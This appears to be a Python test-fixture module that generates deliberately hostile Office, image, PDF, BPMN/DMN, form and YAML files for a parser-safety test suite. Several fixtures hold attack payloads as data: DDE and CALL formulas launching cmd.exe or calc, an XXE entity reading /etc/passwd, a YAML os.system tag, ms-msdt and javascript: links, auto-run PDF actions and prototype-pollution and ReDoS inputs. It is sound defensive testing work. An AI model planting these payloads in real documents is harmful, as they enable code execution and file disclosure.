"""Files that mean harm by what is rare about them: packing, chunks, fields, filters, cycles. For `tests.hostile.files`."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.hostile.texts import BELL, NOWHERE

KEPT = (
    # rare, and nothing in it acts: no reader of ours unpacks these further
    *("lzma.docx", "quiet_comment.docx", "empty_part.docx", "many_relations.docx", "nul_in_name.docx"),
    # long, and only heads of formulas and fields
    *("formula_heads.xlsx", "field_heads.docx"),
    # drawn anew
    *("frames.png", "many_comments.png"),
    # only long
    *("deep.pdf", "brackets.pdf", "long_number.pdf"),
)
Zip = Callable[[Mapping[str, bytes]], bytes]
Parts = Callable[[Mapping[str, bytes]], dict[str, bytes]]
_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DMN = "https://www.omg.org/spec/DMN/20191111/MODEL/"


def _with_bytes(content: bytes, place: int, data: bytes) -> bytes:
    return content[:place] + data + content[place + len(data) :]


def _flagged(content: bytes, *, flags: int = 0, method: int | None = None) -> bytes:
    """The first entry of an archive said to be encrypted, or packed in a way of its own, in both of its heads."""
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.index(mark)
        old = struct.unpack("<H", content[place + at : place + at + 2])[0]
        content = _with_bytes(content, place + at, struct.pack("<H", old | flags))
        if method is not None:
            content = _with_bytes(content, place + at + 2, struct.pack("<H", method))
    return content


def _spoilt(content: bytes) -> bytes:
    """Packed bytes that no packer wrote, in the first entry."""
    name, extra = struct.unpack("<HH", content[26:30])
    return _with_bytes(content, 30 + name + extra, b"\xff" * 24)


def _packed(parts: Mapping[str, bytes], way: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", way) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _relations(kind: str, target: str, *, more: str = "", mode: str = "") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'{more}<Relationship Id="r1" Type="{_KINDS}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _field(*runs: str, simple: str = "") -> bytes:
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    body = f'<w:fldSimple w:instr="{simple}"/>' if simple else said
    return f'<w:document xmlns:w="{_WORD}"><w:body><w:p>{body}</w:p></w:body></w:document>'.encode()


def office_files(pack: Zip, word: Parts, sheet: Parts) -> dict[str, bytes]:
    whole = pack(word({}))
    long_head = b"<x>" + b" " * 100_000
    return {
        "two_in_one.docx": whole + whole,
        "encrypted.docx": _flagged(whole, flags=1),
        "strong_encrypted.docx": _flagged(whole, flags=0x41),
        "unknown_packing.docx": _flagged(whole, method=77),
        "spoilt_packing.docx": _spoilt(whole),
        "spoilt_packing.xlsx": _spoilt(pack(sheet({}))),
        "lzma.docx": _packed(word({}), zipfile.ZIP_LZMA)[:-300] + _packed(word({}), zipfile.ZIP_LZMA)[-300:],
        "cut_entry.docx": whole[: len(whole) // 3] + whole[len(whole) // 2 :],
        "directory_twice.docx": whole + whole[whole.index(b"PK\x01\x02") :],
        "comment_in_relations.docx": pack(
            word(
                {
                    "word/_rels/a.xml.rels": _relations(
                        "image", f"{NOWHERE}a.png", more="<!-- x --><?x y?>", mode=' TargetMode="External"'
                    )
                }
            )
        ),
        "quiet_comment.docx": pack(
            word({"word/_rels/a.xml.rels": b"<!-- x --><Relationships><!-- y --></Relationships>"})
        ),
        "renamed_macro.docx": pack(
            word(
                {
                    "word/_rels/document.xml.rels": _relations("vbaProject", "theme.dat"),
                    "word/theme.dat": b"\xd0\xcf\x11\xe0",
                }
            )
        ),
        "foreign_chunk.docx": pack(
            word(
                {
                    "word/_rels/document.xml.rels": _relations("aFChunk", "a.html"),
                    "word/a.html": f"<img src={NOWHERE}>".encode(),
                }
            )
        ),
        "renamed_object.docx": pack(
            word(
                {
                    "word/_rels/document.xml.rels": _relations("oleObject", "media/a.dat"),
                    "word/media/a.dat": b"\xd0\xcf\x11\xe0",
                }
            )
        ),
        "dde.docx": pack(word({"word/document.xml": _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"')})),
        "dde_simple.docx": pack(word({"word/document.xml": _field(simple="DDE excel x y")})),
        "dde_in_pieces.docx": pack(word({"word/document.xml": _field("DD", "EAU", "TO cmd x")})),
        "included_text.docx": pack(word({"word/document.xml": _field(f'INCLUDETEXT "{NOWHERE}"')})),
        "included_picture.docx": pack(word({"word/header1.xml": _field(f'INCLUDEPICTURE "{NOWHERE}a.png" \\d')})),
        "late_dde.xlsx": pack(
            sheet({"xl/externalLinks/externalLink1.xml": long_head + b'<ddeLink ddeService="cmd"/></x>'})
        ),
        "web_function.xlsx": pack(
            sheet({"xl/worksheets/sheet1.xml": f'<worksheet><f>_xlfn.WEBSERVICE("{NOWHERE}")</f></worksheet>'.encode()})
        ),
        "query_table.xlsx": pack(
            sheet({"xl/queryTables/queryTable1.xml": b"<queryTable/>", "XL/Connections.XML": b"<connections/>"})
        ),
        "upper_macro.docx": pack(word({"WORD/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})),
        "late_doctype.docx": pack(
            word(
                {
                    "word/document.xml": b"<!--"
                    + b" " * 100_000
                    + b"-->"
                    + b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w>&e;</w>'
                }
            )
        ),
        "bad_relations.xlsx": pack(sheet({"xl/_rels/workbook.xml.rels": b"\x00\xff\xfe"})),
        "empty_part.docx": pack(word({"word/document.xml": b""})),
        "many_relations.docx": pack(word({"word/_rels/document.xml.rels": b"<a>" + b"<b/>" * 500_000 + b"</a>"})),
        "other_case.docx": pack(word({"Word/Document.XML": b"<x/>"})),
        "nul_in_name.docx": pack(word({"word/a\x01b.xml": b"<x/>"})),
        **_leading_out(pack, word),
        **_asking_sheets(pack, sheet),
    }


def _leading_out(pack: Zip, word: Parts) -> dict[str, bytes]:
    """Word files that open, fetch or carry something in ways that are seldom used."""

    def linked(kind: str, target: str) -> bytes:
        return pack(word({"word/_rels/document.xml.rels": _relations(kind, target, mode=' TargetMode=" External "')}))

    def asking(code: str) -> bytes:
        return pack(word({"word/document.xml": _field(code)}))

    return {
        "script_link.docx": linked("hyperlink", "javascript:alert(1)"),
        "program_link.docx": linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "spaced_template.docx": linked("attachedTemplate ", f"{NOWHERE}a.dotm"),
        "embedded_macro.docx": pack(word({"word/embeddings/a.docm": b"PK"})),
        "embedded_shortcut.docx": pack(word({"word/embeddings/a.LNK": b"L"})),
        "small_letters.docx": asking("ddeauto c:\\windows\\system32\\cmd.exe x"),
        "linked_object.docx": asking("LINK Excel.Sheet.12 \\\\127.0.0.1\\a.xlsx"),
        "database.docx": asking(f'DATABASE \\d "{NOWHERE}"'),
        "imported.docx": asking(f'IMPORT "{NOWHERE}a.png"'),
        "field_heads.docx": pack(word({"word/document.xml": b"<instrText " * 80_000})),
    }


def _asking_sheets(pack: Zip, sheet: Parts) -> dict[str, bytes]:
    """Workbooks whose cells run or ask something."""
    said = {
        "command_formula.xlsx": "cmd|'/c calc'!A1",
        "image_function.xlsx": f'_xlfn.IMAGE("{NOWHERE}a.png")',
        "data_feed.xlsx": 'RTD("a.b","127.0.0.1","c")',
        "called.xlsx": 'CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc")',
    }
    heads = pack(sheet({"xl/worksheets/sheet1.xml": b"<f " * 300_000}))
    names = b"<definedNames><definedName name='_xlnm.Auto_Open'>M!A1</definedName></definedNames>"
    return {
        **{
            name: pack(sheet({"xl/worksheets/sheet1.xml": f"<worksheet><f>{code}</f></worksheet>".encode()}))
            for name, code in said.items()
        },
        "auto_open.xlsx": pack(sheet({"xl/workbook.xml": b"<workbook>" + names + b"</workbook>"})),
        "mashup.xlsx": pack(sheet({"customXml/item1.xml": b"<DataMashup xmlns='x'>AAAA</DataMashup>"})),
        "formula_heads.xlsx": heads,
    }


def picture_files(png: Callable[..., bytes], chunk: Callable[[bytes, bytes], bytes]) -> dict[str, bytes]:
    sides = struct.pack(">IIBBBBB", 2, 2, 8, 0, 0, 0, 0)
    twice = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0))
    return {
        "two_heads.png": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", sides) + twice + png()[33:],
        "negative.png": png(0xFFFFFFFF, 0xFFFFFFFF, rows=b"\0"),
        "palette_missing.png": png()[:24] + b"\x08\x03" + png()[26:],
        "frames.png": png(more=chunk(b"acTL", struct.pack(">II", 0xFFFFFFFF, 0))),
        "long_chunk.png": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0x7FFFFFFF) + b"IHDR" + b"\0" * 40,
        "wrong_sum.png": _with_bytes(png(), 29, b"\0\0\0\0"),
        "many_comments.png": png(more=chunk(b"tEXt", b"a\0b") * 20_000),
        "restarts.jpg": b"\xff\xd8" + b"\xff\xd0" * 200_000 + b"\xff\xd9",
        "endless_scan.jpg": b"\xff\xd8\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\0" * 300_000,
    }


def pdf_files(pdf: Callable[..., bytes]) -> dict[str, bytes]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    packed = zlib.compress(script)
    stream = b"4 0 obj<</Type/ObjStm/N 1/First 0%s/Length %d>>stream\n%s\nendstream endobj\n"
    return {
        "packed_script.pdf": pdf("") + stream % (b"/Filter/FlateDecode", len(packed), packed),
        "twice_packed.pdf": pdf("")
        + stream % (b"/Filter[/ASCIIHexDecode/FlateDecode]", 2 * len(packed), packed.hex().encode()),
        "renamed_stream.pdf": pdf("")
        + stream.replace(b"/ObjStm", b"/#4FbjStm") % (b"/Filter/FlateDecode", len(packed), packed),
        "opens_page.pdf": pdf(f"/OpenAction<</S/URI/URI({NOWHERE})>>"),
        "opens_embedded.pdf": pdf("/OpenAction<</S/GoToE/T<</R/C/N(a.exe)>>>>"),
        "opens_by_number.pdf": pdf("/OpenAction 9 0 R") + f"\n9 0 obj<</S/URI/URI({NOWHERE})>>endobj".encode(),
        "opens_share.pdf": pdf("/OpenAction<</S/GoToR/F(//127.0.0.1/a.pdf)>>"),
        "asks_when_closed.pdf": pdf(f"/AA<</WC<</S/URI/URI({NOWHERE})>>>>"),
        "many_openings.pdf": pdf("") + b"/OpenAction<<" * 300_000,
        "many_names.pdf": pdf("") + b"/ObjStm" * 300_000,
        "spelled.pdf": pdf("") + b"#41" * 400_000,
        "movie.pdf": pdf("/OpenAction<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>"),
        "form.pdf": pdf("/AcroForm<</XFA 5 0 R>>"),
        "split_name.pdf": pdf("/OpenAction<</S/Java#53cript/#4A#53(1)>>"),
        "deep.pdf": b"%PDF-1.7\n1 0 obj" + b"<</A" * 100_000 + b">>" * 100_000 + b"endobj",
        "brackets.pdf": b"%PDF-1.7\n" + b"[" * 2_000_000,
        "long_number.pdf": b"%PDF-1.7\n1 0 obj<</Count " + b"9" * 1_000_000 + b">>endobj trailer<</Root 1 0 R>>",
    }


def definition_files(diagram: Callable[..., bytes], xml: Callable[..., bytes]) -> dict[str, bytes]:
    ring = "".join(f'<callActivity id="c{n}" name="c" calledElement="p{(n + 1) % 3}"/>' for n in range(3))
    rules = '<rule id="r"><inputEntry id="i"><text>%s</text></inputEntry><outputEntry id="o"><text>1</text></outputEntry></rule>'
    table = (
        '<definitions xmlns="%s" id="d"><import importType="x" locationURI="%s" namespace="x"/>'
        '<decision id="odd" name="m"><informationRequirement><requiredDecision href="#odd"/></informationRequirement>'
        '<decisionTable id="t"><input id="n"><inputExpression id="e"><text>x</text></inputExpression></input>'
        '<output id="u" name="u"/>%s</decisionTable></decision>'
        '<businessKnowledgeModel id="b" name="b"><knowledgeRequirement><requiredKnowledge href="#b"/></knowledgeRequirement>'
        "</businessKnowledgeModel></definitions>"
    )
    return {
        "calls_in_a_ring.bpmn": diagram(ring),
        "long_id.bpmn": diagram(f'<userTask id="{"t" * 200_000}" name="x"/>'),
        "odd_id.bpmn": diagram('<userTask id="__proto__" name="x"/><userTask id="constructor" name="y"/>'),
        "nested.bpmn": diagram('<subProcess id="s">' * 900 + "</subProcess>" * 900),
        "many_flows.bpmn": diagram(
            "".join(f'<sequenceFlow id="f{n}" sourceRef="x" targetRef="x"/>' for n in range(20_000))
        ),
        "boundary_of_itself.bpmn": diagram('<boundaryEvent id="b" attachedToRef="b"/>'),
        "two_starts.bpmn": diagram("<startEvent/>" * 50),
        "lanes_in_a_ring.bpmn": diagram(
            '<laneSet id="l"><lane id="a"><flowNodeRef>a</flowNodeRef><childLaneSet id="l"/></lane></laneSet>'
        ),
        "utf8_mark.bpmn": b"\xef\xbb\xbf" + diagram('<userTask id="t" name="x"/>'),
        "overlong.bpmn": diagram('<userTask id="t" name="x"/>').replace(b'name="x"', b'name="\xc0\xbc"'),
        "utf32.bpmn": diagram().decode().replace("UTF-8", "UTF-32").encode("utf-32"),
        "encoding_lie.bpmn": diagram('<userTask id="t" name="同意"/>').replace(b"UTF-8", b"GB18030"),
        "standalone.bpmn": b'<?xml version="1.1" standalone="yes"?>' + diagram()[38:],
        "needs_itself.dmn": xml(table % (_DMN, NOWHERE, rules % "-")),
        "many_rows.dmn": xml(table % (_DMN, NOWHERE, (rules % "-") * 20_000)),
        "greedy_cell.dmn": xml(table % (_DMN, NOWHERE, rules % "matches(?, &quot;(a+)+$&quot;)")),
        "bad_dates.form": b'{"type":"default","id":"x","schemaVersion":19,"components":[{"type":"datetime","id":"a","key":"a","subtype":"date","dateLabel":{"a":1}}]}',
        "numbers_as_text.form": b'{"type":"default","id":1,"schemaVersion":"19","components":{"0":{"type":7}}}',
        "not_utf8.form": '{"type":"default","components":[]}'.encode("utf-16"),
        "columns_ring.form": b'{"type":"default","id":"x","schemaVersion":19,"components":[{"type":"table","id":"a","key":"a","columns":[{"type":"table","key":"b","columns":[{"type":"table","key":"c"}]}]}]}',
        "dynamic.form": f'{{"type":"default","id":"x","schemaVersion":19,"components":[{{"type":"dynamiclist","id":"a","path":"__proto__","components":[{{"type":"html","id":"b","content":"<svg onload={BELL}=1>"}}]}}]}}'.encode(),
        "tag.yml": b"%TAG ! tag:yaml.org,2002:python/\na: !object/new:os.system [id]\n",
        "two_documents.yml": b"a: 1\n---\nb: 2\n",
        "keys_twice.yml": b"a: 1\na: 2\n",
        "binary.yml": b"a: !!binary R0lGODlhDAAMAIQAAP\n",
        "timestamps.yml": b"a: 9999-12-31T23:59:60Z\nb: 0000-00-00\n",
        "huge_float.yml": b"a: 1e99999\nb: .inf\nc: .nan\n",
    }
